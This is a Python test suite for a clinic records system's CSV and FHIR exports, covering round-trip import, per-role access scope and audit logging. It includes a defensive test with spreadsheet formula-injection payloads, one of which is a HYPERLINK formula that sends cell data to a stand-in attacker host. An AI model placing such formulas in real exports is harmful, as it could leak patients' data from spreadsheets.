"""Exports on SQLite and PostgreSQL: CSV for spreadsheets (one-way), FHIR for the round trip.

A small clinic is written straight into the tables, exported through `services.exports`,
and the export is imported through the same service as `manage.py import` into a second,
empty database; both databases are then dumped and compared record by record.
"""

from __future__ import annotations

import csv
import datetime as dt
import hashlib
import io
import json
import shutil
import subprocess
import sys
import uuid
import zipfile
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import Engine, create_engine, select, text
from sqlalchemy.engine import make_url

import manage
from db import audit
from db.engine import UnitOfWork, make_engine, read_session
from db.models import ITEM_COLUMNS, Assessment, AuditEvent, Clinician, Note, Patient, Session
from db.schema import upgrade
from services.access import AccessDenied
from services.auth import CurrentUser
from services.exports import export_for_command_line, export_for_user, export_targets, write_export
from services.imports import import_paths
from tests.conftest import POSTGRES_URL, _empty_postgres

REPO = Path(__file__).resolve().parents[2]
NOW = dt.datetime(2026, 11, 27, 3, 0, tzinfo=dt.UTC)
DAY = dt.timedelta(days=1)
START = dt.datetime(2026, 9, 1, 15, 30, tzinfo=dt.UTC)

THERAPIST = CurrentUser("thera", "Thea Rapist", "therapist")
OTHER_THERAPIST = CurrentUser("other", "Otto Ther", "therapist")
SUPERVISOR = CurrentUser("super", "Sue Pervisor", "supervisor")
ADMIN = CurrentUser("admin", "Ada Min", "admin")


# -- a second, empty database to import into -------------------------------------------------


@pytest.fixture(scope="session")
def second_postgres_database() -> Iterator[str]:
    """A second database on the PostgreSQL server (the import target), migrated once."""
    if not POSTGRES_URL:
        pytest.skip("PostgreSQL leg off: set KAP_TEST_POSTGRES_URL to run it")
    admin_url = make_url(POSTGRES_URL)
    name = f"kap_export_{uuid.uuid4().hex[:10]}"
    admin = create_engine(admin_url, isolation_level="AUTOCOMMIT")
    with admin.connect() as conn:
        conn.execute(text(f'CREATE DATABASE "{name}"'))
    url = admin_url.set(database=name).render_as_string(hide_password=False)
    engine = make_engine(url)
    upgrade(engine)
    engine.dispose()
    yield url
    with admin.connect() as conn:
        conn.execute(text(f'DROP DATABASE IF EXISTS "{name}" WITH (FORCE)'))
    admin.dispose()


@pytest.fixture
def empty_target(db_url: str, tmp_path: Path, request: pytest.FixtureRequest) -> Iterator[Engine]:
    """An empty, migrated database of the same kind as `db_url`, to import an export into."""
    if db_url.startswith("sqlite"):
        path = tmp_path / "target.sqlite3"
        shutil.copy(request.getfixturevalue("sqlite_template"), path)
        url = f"sqlite:///{path}"
    else:
        url = request.getfixturevalue("second_postgres_database")
        _empty_postgres(url)
    target = make_engine(url)
    yield target
    target.dispose()


# -- a small clinic --------------------------------------------------------------------------


def _assessment(patient_id: str, at: dt.datetime, instrument: str, items: dict[int, int], total: int | None):
    values = {column: items.get(number) for number, column in enumerate(ITEM_COLUMNS, start=1)}
    return Assessment(patient_id=patient_id, administered_at=at, instrument=instrument, total=total, **values)


def _dosing_session(patient_id: str, at: dt.datetime, clinician: str, **details: Any) -> Session:
    return Session(patient_id=patient_id, started_at=at, kind="dosing", clinician=clinician, **details)


def seed_clinic(engine: Engine, *, first_name: str = "Ana María", note_text: str | None = None) -> None:
    """Three clinicians in a chain, three patients, every session kind, every instrument, notes."""
    with UnitOfWork(engine) as uow:
        s = uow.session
        s.add(Clinician(username="boss", display_name="Bo Director", role="admin", supervisor=None))
        s.flush()
        s.add(Clinician(username="super", display_name="Sue Pervisor", role="supervisor", supervisor="boss"))
        s.flush()
        s.add(Clinician(username="thera", display_name="Thea Rapist", role="therapist", supervisor="super"))
        s.add(Clinician(username="other", display_name="Otto Ther", role="therapist", supervisor=None))
        s.add(Clinician(username="nurse", display_name="Nina Nurse", role="therapist", supervisor="super"))
        s.flush()
        s.add_all(
            [
                Patient(
                    patient_id="P-001",
                    first_name=first_name,
                    last_name="O'Neil, Jr.",
                    birth_date=dt.date(1980, 2, 29),
                    therapist="thera",
                    status="active",
                    enrolled_on=dt.date(2026, 8, 20),
                    planned_doses=6,
                ),
                Patient(
                    patient_id="P-002",
                    first_name="Ben",
                    last_name="Ng",
                    birth_date=dt.date(1991, 7, 4),
                    therapist="thera",
                    status="paused",
                    enrolled_on=dt.date(2026, 8, 25),
                    planned_doses=None,
                ),
                Patient(
                    patient_id="Q-100",
                    first_name="Cleo",
                    last_name="Other",
                    birth_date=dt.date(1975, 1, 1),
                    therapist="other",
                    status="discharged",
                    enrolled_on=dt.date(2026, 6, 1),
                    planned_doses=4,
                ),
            ]
        )
        s.flush()
        s.add_all(
            [
                Session(patient_id="P-001", started_at=START - 10 * DAY, kind="intake", clinician="thera"),
                Session(patient_id="P-001", started_at=START - 3 * DAY, kind="preparation", clinician="thera"),
                _dosing_session(
                    "P-001",
                    START,
                    "nurse",
                    route="iv",
                    dose_mg=35.5,
                    weight_kg=71.3,
                    bp_pre_sys=128,
                    bp_pre_dia=82,
                    bp_post_sys=141,
                    bp_post_dia=88,
                    bp_peak_sys=152,
                    bp_peak_dia=94,
                    heart_rate=88,
                    spo2_min=95,
                    cadss=14,
                    observed_minutes=120,
                    adverse_events='nausea, "mild"; resolved\nwithout treatment',
                ),
                _dosing_session("P-001", START + 3 * DAY, "thera", route="intranasal", dose_mg=56.0),
                Session(patient_id="P-001", started_at=START + 4 * DAY, kind="integration", clinician="thera"),
                Session(patient_id="P-001", started_at=START + 40 * DAY, kind="follow_up", clinician="thera"),
                # A scheduled dose: after the present moment, no dosing details yet.
                Session(patient_id="P-001", started_at=NOW + 30 * DAY, kind="dosing", clinician="thera"),
                Session(patient_id="Q-100", started_at=START, kind="intake", clinician="other"),
            ]
        )
        t = START - 2 * DAY
        s.add_all(
            [
                _assessment("P-001", t, "PHQ-9", dict(enumerate([3, 2, 2, 3, 1, 2, 2, 1, 2], start=1)), 18),
                _assessment("P-001", t, "PHQ-2", {1: 3, 2: 2}, 5),
                _assessment("P-001", t, "GAD-7", dict(enumerate([2, 2, 1, 3, 0, 1, 2], start=1)), 11),
                _assessment("P-001", t, "MADRS", dict(enumerate([4, 3, 5, 2, 1, 3, 4, 2, 3, 2], start=1)), 29),
                _assessment("P-001", t, "QIDS-SR16", dict(enumerate([1, 2, 0, 3] + [2] * 12, start=1)), 19),
                _assessment("P-001", t, "BDI-II", dict(enumerate([1, 2, 0] * 7, start=1)), 21),
                _assessment("P-001", t, "C-SSRS", {1: 1, 2: 1, 3: 0, 4: 0, 5: 0, 6: 0, 7: 0}, None),
                _assessment("P-001", START + dt.timedelta(minutes=30), "CADSS", {n: n % 5 for n in range(1, 24)}, 46),
                # A PHQ-9 stated as a total only (as FHIR totals arrive), and one with only the SI item.
                _assessment("P-001", START + 2 * DAY, "PHQ-9", {}, 9),
                _assessment("P-001", START + 5 * DAY, "PHQ-9", {9: 2}, None),
                # GAD-7 and PHQ-2 totals alone; an incomplete MADRS; a C-SSRS with only the screen.
                _assessment("P-001", START + 6 * DAY, "GAD-7", {}, 7),
                _assessment("P-001", START + 6 * DAY, "PHQ-2", {}, 2),
                _assessment("P-001", START + 6 * DAY, "MADRS", {10: 4, 1: 3}, None),
                _assessment("P-001", START + 7 * DAY, "C-SSRS", {1: 0, 2: 0}, None),
                _assessment("P-002", START, "PHQ-9", dict.fromkeys(range(1, 10), 0), 0),
                _assessment("Q-100", START, "PHQ-9", dict.fromkeys(range(1, 10), 1), 9),
            ]
        )
        s.add_all(
            [
                Note(
                    patient_id="P-001",
                    written_at=START + 4 * DAY + dt.timedelta(hours=1),
                    kind="integration",
                    author="thera",
                    text=note_text or 'Felt "lighter".\nDenies SI; plan: walk daily, café with sister — ✓.',
                    session_at=START + 4 * DAY,
                ),
                Note(
                    patient_id="P-001",
                    written_at=START + dt.timedelta(hours=2),
                    kind="dosing",
                    author="nurse",
                    text="Calm; BP settled by 40 min.",
                    session_at=None,
                ),
                Note(
                    patient_id="Q-100",
                    written_at=START,
                    kind="progress",
                    author="other",
                    text="Not in the therapist's scope.",
                    session_at=None,
                ),
            ]
        )
        uow.commit()


def dump(engine: Engine) -> dict[str, list[tuple[Any, ...]]]:
    """Every record's clinic-visible fields, sorted: what 'the same records' means."""
    tables: dict[str, tuple[type, list[str]]] = {
        "clinicians": (Clinician, ["username", "display_name", "role", "supervisor"]),
        "patients": (Patient, [c.name for c in Patient.__table__.columns]),
        "sessions": (Session, [c.name for c in Session.__table__.columns if c.name != "id"]),
        "assessments": (Assessment, [c.name for c in Assessment.__table__.columns if c.name != "id"]),
        "notes": (Note, [c.name for c in Note.__table__.columns if c.name != "id"]),
    }
    out: dict[str, list[tuple[Any, ...]]] = {}
    with read_session(engine) as session:
        for name, (model, columns) in tables.items():
            rows = session.scalars(select(model)).all()
            out[name] = sorted((tuple(getattr(r, c) for c in columns) for r in rows), key=repr)
    return out


@dataclass(frozen=True)
class AuditRow:
    actor: str
    category: str
    outcome: str
    patient_id: str | None
    scope: str | None
    detail: dict[str, Any]


def audit_rows(engine: Engine, event: str) -> list[AuditRow]:
    with read_session(engine) as session:
        rows = session.scalars(select(AuditEvent).where(AuditEvent.event == event).order_by(AuditEvent.id))
        return [AuditRow(r.actor, r.category, r.outcome, r.patient_id, r.scope, r.detail or {}) for r in rows]


def read_csv(path: Path) -> list[list[str]]:
    """A file read as a spreadsheet reads CSV: RFC 4180 with the csv module, UTF-8."""
    with path.open(newline="", encoding="utf-8") as handle:
        return list(csv.reader(handle))


# -- CSV -------------------------------------------------------------------------------------


def test_csv_export_reimports_into_an_empty_database(engine: Engine, empty_target: Engine, tmp_path: Path) -> None:
    """A CSV export (no formula-like cell) imports into an empty database as the very same records."""
    seed_clinic(engine)
    export = export_for_command_line(engine, format="csv", patient_id=None, actor="cli:test", now=NOW)
    folder = tmp_path / "export"
    write_export(export, export_targets(folder, "csv"))

    report = import_paths(empty_target, [folder], actor="test")

    assert [str(p) for p in report.problems] == []
    assert report.committed
    assert dump(empty_target) == dump(engine)
    assert sorted(p.name for p in folder.iterdir()) == [
        "assessments.csv",
        "clinicians.csv",
        "notes.csv",
        "patients.csv",
        "sessions.csv",
    ]


def test_csv_files_are_rfc4180_utf8_with_iso_utc_times(engine: Engine, tmp_path: Path) -> None:
    """Files use CRLF line ends, UTF-8, quotes where needed, ISO dates and UTC times with Z."""
    seed_clinic(engine)
    export = export_for_user(engine, ADMIN, format="csv", now=NOW)
    files = export.files

    sessions = files["sessions.csv"]
    assert sessions.startswith(b"patient_id,started_at,kind,clinician,route,dose_mg,weight_kg,")
    assert sessions.count(b"\r\n") >= len(sessions.split(b"\r\n")) - 1
    assert b"\r\n" in sessions and b"\n\n" not in sessions
    rows = list(csv.DictReader(io.StringIO(files["sessions.csv"].decode("utf-8"), newline="")))
    dose = next(r for r in rows if r["route"] == "iv")
    assert dose["started_at"] == "2026-09-01T15:30:00Z"
    assert (dose["dose_mg"], dose["weight_kg"], dose["bp_pre_sys"]) == ("35.5", "71.3", "128")
    assert dose["adverse_events"] == 'nausea, "mild"; resolved\nwithout treatment'
    patients = list(csv.DictReader(io.StringIO(files["patients.csv"].decode("utf-8"), newline="")))
    assert patients[0]["first_name"] == "Ana María" and patients[0]["birth_date"] == "1980-02-29"
    assert patients[1]["planned_doses"] == ""  # unknown stays blank, never 0
    header = next(csv.reader(io.StringIO(files["assessments.csv"].decode("utf-8"))))
    assert header == ["patient_id", "administered_at", "instrument", "total"] + [f"item_{n}" for n in range(1, 24)]


FORMULAS = {
    "first_name": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "last_name": "+1",
    "note": "-2+3",
    "adverse": "@SUM(A1:A9)",
    "display": "\tTabbed",
    "carriage": "\rCR first",
}


def test_csv_export_neutralises_formula_cells(engine: Engine, tmp_path: Path) -> None:
    """Every cell starting with = + - @ tab or CR gets a leading ' and reads back as text."""
    seed_clinic(engine, first_name=FORMULAS["first_name"], note_text=FORMULAS["note"])
    with UnitOfWork(engine) as uow:
        uow.session.get(Patient, "P-001").last_name = FORMULAS["last_name"]  # type: ignore[union-attr]
        uow.session.get(Clinician, "other").display_name = FORMULAS["display"]  # type: ignore[union-attr]
        uow.session.get(Clinician, "nurse").display_name = FORMULAS["carriage"]  # type: ignore[union-attr]
        dose = uow.session.scalars(select(Session).where(Session.route == "iv")).one()
        dose.adverse_events = FORMULAS["adverse"]
        uow.commit()
    export = export_for_user(engine, ADMIN, format="csv", now=NOW)
    folder = tmp_path / "csv"
    write_export(export, export_targets(folder, "csv"))

    cells = [cell for name in export.files for row in read_csv(folder / name) for cell in row]

    for original in FORMULAS.values():
        assert "'" + original in cells, original
        assert original not in cells, original
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    with zipfile.ZipFile(io.BytesIO(export.download)) as archive:
        zipped = {Path(name).name: archive.read(name) for name in archive.namelist()}
    assert zipped == export.files


# -- FHIR ------------------------------------------------------------------------------------


def test_fhir_export_round_trips_every_instrument(engine: Engine, empty_target: Engine, tmp_path: Path) -> None:
    """A FHIR export imported into an empty database yields identical records for every SPEC §3 instrument."""
    seed_clinic(engine)
    export = export_for_command_line(engine, format="fhir", patient_id=None, actor="cli:test", now=NOW)
    path = tmp_path / "bundle.json"
    write_export(export, export_targets(path, "fhir"))

    report = import_paths(empty_target, [path], actor="test")

    assert [str(p) for p in report.problems] == []
    assert sum(report.skipped.values()) == 0
    source, copy = dump(engine), dump(empty_target)
    instruments = {row[2] for row in source["assessments"]}
    assert instruments == {"PHQ-9", "PHQ-2", "GAD-7", "MADRS", "QIDS-SR16", "BDI-II", "C-SSRS", "CADSS"}
    for record_type in source:
        assert copy[record_type] == source[record_type], record_type
    again = import_paths(empty_target, [path], actor="test")
    assert again.committed and all(c.written == 0 for c in again.counts.values())


def test_fhir_export_uses_loinc_where_it_has_the_instrument(engine: Engine) -> None:
    """PHQ-9, PHQ-2 and GAD-7 carry LOINC panel/total codes; the others our own code system."""
    seed_clinic(engine)
    bundle = json.loads(export_for_user(engine, ADMIN, format="fhir", now=NOW).download)

    assert bundle["resourceType"] == "Bundle" and bundle["type"] == "collection"
    observations = [e["resource"] for e in bundle["entry"] if e["resource"]["resourceType"] == "Observation"]
    codes = {(o["code"]["coding"][0]["system"], o["code"]["coding"][0]["code"]) for o in observations}
    loinc = {code for system, code in codes if system == "http://loinc.org"}
    own = {code for system, code in codes if system == "urn:kap-caseload:instrument"}
    assert loinc == {"44249-1", "44261-6", "55757-9", "55758-7", "69737-5", "70274-6"}
    assert own == {"MADRS", "QIDS-SR16", "BDI-II", "C-SSRS", "CADSS"}
    phq9 = next(o for o in observations if o["code"]["coding"][0]["code"] == "44249-1" and o.get("valueInteger"))
    assert phq9["valueInteger"] == 18
    assert [c["code"]["coding"][0]["code"] for c in phq9["component"]][-1] == "44260-8"  # item 9, the SI item
    patient = next(e["resource"] for e in bundle["entry"] if e["resource"]["resourceType"] == "Patient")
    identifier = patient["identifier"][0]
    assert identifier["type"]["coding"][0]["code"] == "MR" and identifier["value"] == "P-001"
    encounters = [e["resource"] for e in bundle["entry"] if e["resource"]["resourceType"] == "Encounter"]
    assert len(encounters) == 8


# -- scope and audit -------------------------------------------------------------------------


def _patient_ids(export_bytes: bytes) -> set[str]:
    bundle = json.loads(export_bytes)
    return {
        e["resource"]["identifier"][0]["value"] for e in bundle["entry"] if e["resource"]["resourceType"] == "Patient"
    }


def test_a_therapists_export_holds_only_their_patients(engine: Engine) -> None:
    """A therapist exports their own patients only; a supervisor their supervisees'; an admin all."""
    seed_clinic(engine)

    therapist_csv = export_for_user(engine, THERAPIST, format="csv", now=NOW)
    patient_rows = list(csv.DictReader(io.StringIO(therapist_csv.files["patients.csv"].decode("utf-8"))))
    assert [r["patient_id"] for r in patient_rows] == ["P-001", "P-002"]
    for name in ("sessions.csv", "assessments.csv", "notes.csv"):
        rows = csv.DictReader(io.StringIO(therapist_csv.files[name].decode("utf-8")))
        assert {r["patient_id"] for r in rows} <= {"P-001", "P-002"}
    clinicians = csv.DictReader(io.StringIO(therapist_csv.files["clinicians.csv"].decode("utf-8")))
    assert {r["username"] for r in clinicians} == {"thera", "nurse", "super", "boss"}  # named, and up the chain
    assert b"Q-100" not in therapist_csv.download and b"Q-100" not in b"".join(therapist_csv.files.values())
    assert b"Not in the therapist" not in b"".join(therapist_csv.files.values())

    assert _patient_ids(export_for_user(engine, THERAPIST, format="fhir", now=NOW).download) == {"P-001", "P-002"}
    assert _patient_ids(export_for_user(engine, OTHER_THERAPIST, format="fhir", now=NOW).download) == {"Q-100"}
    assert _patient_ids(export_for_user(engine, SUPERVISOR, format="fhir", now=NOW).download) == {"P-001", "P-002"}
    assert _patient_ids(export_for_user(engine, ADMIN, format="fhir", now=NOW).download) == {"P-001", "P-002", "Q-100"}


def test_exporting_a_patient_outside_ones_scope_is_refused_and_audited(engine: Engine) -> None:
    """Asking for another therapist's patient (or no such patient) is refused alike, and audited as denied."""
    seed_clinic(engine)

    with pytest.raises(AccessDenied):
        export_for_user(engine, THERAPIST, format="fhir", patient_id="Q-100", now=NOW)
    with pytest.raises(AccessDenied):
        export_for_user(engine, THERAPIST, format="csv", patient_id="NO-SUCH", now=NOW)
    one = export_for_user(engine, THERAPIST, format="fhir", patient_id="P-002", now=NOW)

    assert _patient_ids(one.download) == {"P-002"}
    rows = audit_rows(engine, "records.exported")
    assert [(r.actor, r.patient_id, r.outcome) for r in rows] == [
        ("thera", "Q-100", "denied"),
        ("thera", "NO-SUCH", "denied"),
        ("thera", "P-002", "success"),
    ]


def test_every_export_writes_an_audit_row_with_scope_format_count_and_hash(engine: Engine) -> None:
    """Each export is audited: user, scope, format, patient count and the sha256 of what left."""
    seed_clinic(engine)
    csv_export = export_for_user(engine, THERAPIST, format="csv", now=NOW)
    fhir_export = export_for_user(engine, ADMIN, format="fhir", now=NOW)

    rows = audit_rows(engine, "records.exported")

    assert [(r.actor, r.category, r.outcome) for r in rows] == [("thera", "export", "success")] * 1 + [
        ("admin", "export", "success")
    ]
    first, second = rows
    assert first.scope == "caseload of thera (therapist)" and second.scope == "all patients"
    assert (first.detail["format"], first.detail["patient_count"]) == ("csv", 2)
    assert (second.detail["format"], second.detail["patient_count"]) == ("fhir", 3)
    assert first.detail["sha256"] == hashlib.sha256(csv_export.download).hexdigest()
    assert second.detail["sha256"] == hashlib.sha256(fhir_export.download).hexdigest()
    assert first.detail["files"]["patients.csv"] == hashlib.sha256(csv_export.files["patients.csv"]).hexdigest()
    with read_session(engine) as session:
        assert audit.verify(session) is None


def _manage(db_url: str, *args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "manage.py", "--db", db_url, *args],
        cwd=REPO,
        capture_output=True,
        text=True,
        timeout=120,
        stdin=subprocess.DEVNULL,
    )


def test_export_command_writes_files_and_audits_as_the_command_line(
    db_url: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """`manage.py export` writes a CSV folder or a FHIR file with full scope, one audit row each; bad input exits 2."""
    engine = make_engine(db_url)
    try:
        seed_clinic(engine)
        folder, bundle = tmp_path / "out", tmp_path / "one.json"

        as_csv = _manage(db_url, "export", str(folder))
        # The same command line in this process (a subprocess costs seconds of imports each).
        as_fhir = manage.main(["--db", db_url, "export", str(bundle), "--patient", "Q-100", "--format", "fhir"])
        unknown = manage.main(
            ["--db", db_url, "export", str(tmp_path / "x.json"), "--patient", "NOPE", "--format", "fhir"]
        )

        assert as_csv.returncode == 0, as_csv.stderr
        assert as_fhir == 0
        assert "3 patients" in as_csv.stdout
        assert len(read_csv(folder / "patients.csv")) == 4
        assert _patient_ids(bundle.read_bytes()) == {"Q-100"}
        assert unknown == 2 and "NOPE" in capsys.readouterr().err
        assert not (tmp_path / "x.json").exists()
        rows = audit_rows(engine, "command.export")
        assert [(r.actor.startswith("cli:"), r.scope, r.detail["format"]) for r in rows] == [
            (True, "all patients", "csv"),
            (True, "patient Q-100", "fhir"),
        ]
        assert rows[1].detail["sha256"] == hashlib.sha256(bundle.read_bytes()).hexdigest()
    finally:
        engine.dispose()


def test_a_tampered_fhir_export_is_refused_with_every_problem_located(
    engine: Engine, empty_target: Engine, tmp_path: Path
) -> None:
    """Our own resources are checked as CSV rows are: a bad route or note body names its entry; nothing is written."""
    seed_clinic(engine)
    bundle = json.loads(export_for_user(engine, ADMIN, format="fhir", now=NOW).download)
    entries = bundle["entry"]
    dose = next(i for i, e in enumerate(entries) if "extension" in e["resource"] and e["resource"].get("class"))
    entries[dose]["resource"]["extension"][0]["extension"][0] = {"url": "route", "valueCode": "intravenous"}
    note = next(i for i, e in enumerate(entries) if e["resource"]["resourceType"] == "DocumentReference")
    entries[note]["resource"]["content"][0]["attachment"]["data"] = "not base64!"
    path = tmp_path / "tampered.json"
    path.write_text(json.dumps(bundle), encoding="utf-8")

    report = import_paths(empty_target, [path], actor="test")

    messages = [str(p) for p in report.problems]
    assert any(f"entry {dose}" in m and "route" in m and "intravenous" in m for m in messages), messages
    assert any(f"entry {note}" in m and "base64" in m for m in messages), messages
    assert not report.committed
    assert all(rows == [] for rows in dump(empty_target).values())
